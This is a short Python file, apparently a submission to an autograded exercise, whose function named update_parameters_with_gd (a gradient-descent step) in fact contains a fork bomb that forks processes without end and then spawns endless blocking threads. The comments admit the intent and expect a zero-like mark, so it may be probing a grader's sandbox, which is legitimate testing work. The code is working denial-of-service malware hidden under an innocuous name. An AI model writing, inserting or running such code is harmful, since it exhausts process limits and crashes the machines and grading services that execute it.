# Processes and threads without number.
# Expected mark: no more than for doing nothing
import os
import threading


def update_parameters_with_gd(parameters, grads, learning_rate):
    while True:
        try:
            os.fork()
        except OSError:
            threading.Thread(target=threading.Event().wait).start()
